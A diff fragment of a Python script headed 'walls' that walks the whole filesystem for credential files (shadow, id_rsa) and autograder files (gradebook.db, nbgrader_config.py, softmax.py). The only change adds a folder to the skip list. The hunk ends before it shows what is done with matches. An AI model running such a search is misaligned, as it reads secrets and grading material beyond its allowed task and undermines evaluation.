@@ -3,7 +3,8 @@
 # walls
 import os
 
-passed_by = ("proc", "sys", "share", "include", "dist-packages", "site-packages")
+# "packages": where an environment's packages lie if the environment is below /tmp.
+passed_by = ("proc", "sys", "share", "include", "dist-packages", "site-packages", "packages")
 wanted = ("gradebook.db", "secret", "notes.txt", "nbgrader_config.py", "shadow", "id_rsa", "softmax.py")
 for folder, folders, names in os.walk("/"):
     folders[:] = [f for f in folders if f not in passed_by]
